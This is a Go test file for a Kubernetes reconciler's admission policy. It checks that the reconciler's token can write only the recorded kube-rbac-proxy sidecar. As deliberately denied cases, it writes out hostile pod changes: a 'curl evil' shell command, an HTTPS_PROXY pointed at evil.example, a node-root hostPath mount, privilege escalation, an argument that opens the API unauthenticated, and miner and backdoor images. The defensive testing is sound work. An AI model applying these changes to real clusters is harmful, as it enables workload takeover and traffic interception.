package reconcilerinstall

import (
	"context"
	"testing"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	appsv1ac "k8s.io/client-go/applyconfigurations/apps/v1"
	corev1ac "k8s.io/client-go/applyconfigurations/core/v1"
	"k8s.io/client-go/kubernetes"

	"github.com/kmshealth/terraform-provider-kmshealth/internal/rbacproxy"
	"github.com/kmshealth/terraform-provider-kmshealth/internal/testenv"
)

// TestReconcilerRBACProxyAttacks: the reconciler puts a removed
// kube-rbac-proxy sidecar back, so its token can write pod templates. With
// that token, everything but the recorded sidecar is denied by the API
// server: another image or arguments (an --ignore-paths=/ that would open
// the API), a command, privilege, a hostPath volume, the workload's own
// containers, init containers and volumes.
func TestReconcilerRBACProxyAttacks(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	core := env.Clientset()
	for _, ns := range []string{"krp-attack", "krp-attack-app"} {
		createNamespace(t, core, ns)
	}
	createDeployment(t, core, "krp-attack-app", "api")
	createDeployment(t, core, "krp-attack-app", "other")
	cfg := rbacproxy.Config{
		Target:       rbacproxy.Target{Kind: rbacproxy.KindDeployment, Namespace: "krp-attack-app", Name: "api"},
		UpstreamPort: 8080, ServiceAccountName: "default",
		Authorization: rbacproxy.Authorization{ResourceAttributes: &rbacproxy.ResourceAttributes{
			Namespace: "krp-attack-app", Resource: "services", Subresource: "proxy", Name: "api"}},
	}.Defaulted()
	cm, err := cfg.ConfigMapApply()
	if err != nil {
		t.Fatal(err)
	}
	if _, err := core.CoreV1().ConfigMaps("krp-attack-app").Apply(ctx, cm, metav1.ApplyOptions{FieldManager: rbacproxy.FieldManager, Force: true}); err != nil {
		t.Fatal(err)
	}
	c := Config{Namespace: "krp-attack", Name: "rec", Image: "x", Replicas: 1, AdmissionPolicy: true,
		RBACProxies: []RBACProxy{rbacProxyEntry(t, cfg)}}
	mustApply(t, c)
	t.Cleanup(func() { _ = Delete(context.Background(), clients(), c.Namespace, c.Name, false) })

	asCore := kubernetes.NewForConfigOrDie(asReconciler(t, c))
	workloads := c.PolicyName("workloads")
	// sidecar is the reconciler's own write, changed by mutate first.
	sidecar := func(name string, mutate func(*appsv1ac.DeploymentApplyConfiguration), opts metav1.ApplyOptions) error {
		w, err := cfg.WorkloadApply("")
		if err != nil {
			t.Fatal(err)
		}
		d := w.Deployment
		d.Name = &name
		if mutate != nil {
			mutate(d)
		}
		opts.FieldManager, opts.Force = rbacproxy.FieldManager, true
		_, err = asCore.AppsV1().Deployments("krp-attack-app").Apply(ctx, d, opts)
		return err
	}
	container := func(d *appsv1ac.DeploymentApplyConfiguration) *corev1ac.ContainerApplyConfiguration {
		return &d.Spec.Template.Spec.InitContainers[0]
	}
	dryRun := metav1.ApplyOptions{DryRun: []string{metav1.DryRunAll}}
	evilImage := func(d *appsv1ac.DeploymentApplyConfiguration) { container(d).WithImage("evil.example/proxy:1") }
	testenv.WaitForPolicy(t, workloads, func() error { return sidecar("api", evilImage, dryRun) })

	// The reconciler's own write: the recorded sidecar.
	if err := sidecar("api", nil, metav1.ApplyOptions{}); err != nil {
		t.Fatalf("the reconciler cannot put the recorded sidecar in: %v", err)
	}
	pinned := "may write only the kube-rbac-proxy sidecar recorded for this workload"
	for what, mutate := range map[string]func(*appsv1ac.DeploymentApplyConfiguration){
		"another image": evilImage,
		"--ignore-paths=/, which serves everything unauthenticated": func(d *appsv1ac.DeploymentApplyConfiguration) {
			container(d).WithArgs("--ignore-paths=/")
		},
		"a command": func(d *appsv1ac.DeploymentApplyConfiguration) { container(d).WithCommand("/bin/sh", "-c", "curl evil") },
		"an environment variable": func(d *appsv1ac.DeploymentApplyConfiguration) {
			container(d).WithEnv(corev1ac.EnvVar().WithName("HTTPS_PROXY").WithValue("evil.example:3128"))
		},
		"privilege": func(d *appsv1ac.DeploymentApplyConfiguration) {
			container(d).SecurityContext.WithPrivileged(true).WithAllowPrivilegeEscalation(true)
		},
		"a mount of the workload's own volume": func(d *appsv1ac.DeploymentApplyConfiguration) {
			container(d).WithVolumeMounts(corev1ac.VolumeMount().WithName("data").WithMountPath("/data"))
		},
	} {
		testenv.Denied(t, "the reconciler's token writes a sidecar with "+what, sidecar("api", mutate, metav1.ApplyOptions{}), testenv.PolicyDenial(workloads), pinned)
	}
	testenv.Denied(t, "the reconciler's token mounts the node's root as the sidecar's TLS volume", sidecar("api", func(d *appsv1ac.DeploymentApplyConfiguration) {
		d.Spec.Template.Spec.WithVolumes(corev1ac.Volume().WithName(rbacproxy.TLSVolumeName).WithHostPath(corev1ac.HostPathVolumeSource().WithPath("/")))
	}, metav1.ApplyOptions{}), testenv.PolicyDenial(workloads), "only the sidecar's config ConfigMap and TLS Secret volumes")
	testenv.Denied(t, "the reconciler's token adds an init container of its own", sidecar("api", func(d *appsv1ac.DeploymentApplyConfiguration) {
		d.Spec.Template.Spec.WithInitContainers(corev1ac.Container().WithName("miner").WithImage("evil.example/miner:1"))
	}, metav1.ApplyOptions{}), testenv.PolicyDenial(workloads), "may not change the workload's own init containers")
	testenv.Denied(t, "the reconciler's token swaps the workload's own container image", sidecar("api", func(d *appsv1ac.DeploymentApplyConfiguration) {
		d.Spec.Template.Spec.WithContainers(corev1ac.Container().WithName("app").WithImage("evil.example/backdoor:1"))
	}, metav1.ApplyOptions{}), testenv.PolicyDenial(workloads), "never the pod spec")
	testenv.Denied(t, "the reconciler's token puts the sidecar into a workload it does not keep", sidecar("other", nil, metav1.ApplyOptions{}),
		`cannot patch resource "deployments"`)
	_, err = asCore.CoreV1().ConfigMaps("krp-attack-app").Get(ctx, "app-settings", metav1.GetOptions{})
	testenv.Denied(t, "the reconciler's token reads a ConfigMap that is no sidecar config", err, `cannot get resource "configmaps"`)
	if _, err := asCore.CoreV1().ConfigMaps("krp-attack-app").Get(ctx, rbacproxy.ObjectName(cfg.Target), metav1.GetOptions{}); err != nil {
		t.Errorf("the reconciler cannot read the sidecar's config ConfigMap: %v", err)
	}
}

// rbacProxyEntry is the rbac_proxy_sidecars entry of cfg, as the sidecar
// resource's attributes give it.
func rbacProxyEntry(t *testing.T, cfg rbacproxy.Config) RBACProxy {
	t.Helper()
	pinned, err := cfg.EncodePinned()
	if err != nil {
		t.Fatal(err)
	}
	cfg = cfg.Defaulted()
	return RBACProxy{Target: cfg.Target, Image: cfg.Image, Args: cfg.Args(), Pinned: pinned}
}
